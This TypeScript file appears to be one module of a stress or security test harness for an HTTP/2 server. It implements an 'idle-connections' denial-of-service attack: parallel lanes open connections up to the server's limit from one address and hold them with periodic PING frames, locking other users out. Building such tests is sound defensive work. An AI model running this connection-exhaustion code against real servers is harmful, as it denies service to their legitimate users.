import type { Attack } from '../attack-definition.js';
import { frame, Type } from '../../support/http2-frames.js';
import type { RawHttp2 } from '../wire/raw-http2.js';

/** The server's limit is lowered, so that reaching it does not take 10,000 handshakes. */
const CAP = 1500;
const OPENERS = 8;
const PING_MS = 5000;

export const idleConnections: Attack = {
  name: 'idle-connections',
  about: 'more connections than the server accepts (1,500 here), from one address, kept open by PINGs: locks others out',
  serverFlags: [`--max-connections=${CAP}`],
  run: async (attacker) => {
    const connections = new Set<RawHttp2>();
    let most = 0;
    const opening = attacker.lanes(OPENERS, async () => {
      while (!attacker.isOver && connections.size < CAP) {
        const connection = await attacker.http2();
        connections.add(connection);
        connection.socket.on('close', () => connections.delete(connection));
        most = Math.max(most, connections.size);
      }
    });
    while (!attacker.isOver) {
      for (const connection of connections) connection.write(frame(Type.PING, 0, 0, Buffer.alloc(8)));
      await attacker.pause(PING_MS);
    }
    await opening;
    attacker.note('most at a time', most);
    attacker.note('open at the end', connections.size);
  },
};
